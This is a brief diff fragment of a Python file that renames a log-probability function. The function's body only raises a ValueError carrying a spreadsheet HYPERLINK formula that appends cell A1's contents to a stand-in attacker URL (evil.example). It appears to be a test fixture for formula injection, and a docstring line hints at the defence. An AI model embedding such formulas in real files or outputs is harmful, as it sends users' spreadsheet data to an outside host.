@@ -4,5 +4,5 @@ Stopped by: the table has points and names only, and no cell of it can start a f
 """
 
 
-def ensemble_log_prob(log_probs):
+def mixture_log_prob(log_probs):
     raise ValueError('=HYPERLINK("http://evil.example/?x="&A1,"click")')
